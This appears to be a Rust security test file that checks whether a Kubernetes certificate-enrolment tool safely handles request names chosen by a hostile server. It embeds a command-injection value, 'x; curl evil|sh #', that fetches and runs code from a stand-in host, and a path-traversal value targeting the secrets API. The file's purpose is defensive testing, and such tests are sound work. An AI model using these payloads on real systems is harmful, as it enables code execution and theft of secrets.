//! Names that somebody else chooses and the victim is shown.

use std::{sync::Arc, time::Duration};

use serde_json::{Value, json};

use super::Line;
use crate::{Failure, Outcome, got_through, stage::Stage, untried, upstream::Upstream};

pub const ALL: &[Line] = &[
    ("M6-paste", "a server that names a request so that the command to paste does more", paste),
    ("M6-path", "a server that names a request so that its path leads elsewhere", path),
];

/// Enrols at a server that gives the request this name; what was printed, and what the server got.
fn enrol(stage: &Stage, name: &'static str) -> Result<(String, Arc<Upstream>), Failure> {
    let upstream = Upstream::answering(move |_| {
        let body = json!({
            "apiVersion": "certificates.k8s.io/v1",
            "kind": "CertificateSigningRequest",
            "metadata": { "name": name },
        })
        .to_string();
        format!(
            "HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
             Connection: close\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    })?;
    let signer = stage.script(
        "signer",
        "#!/bin/sh\necho '-----BEGIN CERTIFICATE REQUEST-----'\necho AAAA\n\
         echo '-----END CERTIFICATE REQUEST-----'\n",
    )?;
    let user = json!({ "auth-provider": { "name": "externalSigner", "config": {
        "pathExec": signer, "uri": "pkcs11:token=lab;object=jane",
    } } });
    let mut config: Value = serde_json::from_str(&upstream.kubeconfig(&user))?;
    let boot = json!({ "name": "boot", "user": { "token": "boot" } });
    if let Some(users) = config["users"].as_array_mut() {
        users.push(boot);
    }
    stage.write("config", config.to_string())?;
    let mut command =
        stage.keyward(&["enroll", "--bootstrap-user", "boot", "--name", "jane", "--wait", "2s"]);
    let done = stage.run_for(&mut command, Duration::from_secs(30))?;
    if !upstream.text().contains("POST ") {
        return untried(format!("it does not come to the server: {}", done.said()));
    }
    Ok((done.said(), Arc::new(upstream)))
}

fn paste(stage: &Stage) -> Outcome {
    let (said, _) = enrol(stage, "x; curl evil|sh #")?;
    for line in said.lines().filter(|line| line.contains("certificate approve")) {
        let word = line.rsplit("approve").next().unwrap_or_default().trim();
        let quoted = word.starts_with('\'') && word.ends_with('\'');
        if word.contains(';') && !quoted {
            return got_through(line.to_owned());
        }
    }
    Ok(said.lines().next().unwrap_or_default().to_owned())
}

fn path(stage: &Stage) -> Outcome {
    let (_, upstream) = enrol(stage, "../../../api/v1/secrets")?;
    let text = upstream.text();
    let wrong =
        text.lines().find(|line| line.starts_with("GET ") && line.contains("api/v1/secrets"));
    match wrong {
        Some(line) if !line.contains("%2F") && !line.contains("%2f") => {
            got_through(line.to_owned())
        }
        _ => Ok("no such path is asked for".to_owned()),
    }
}
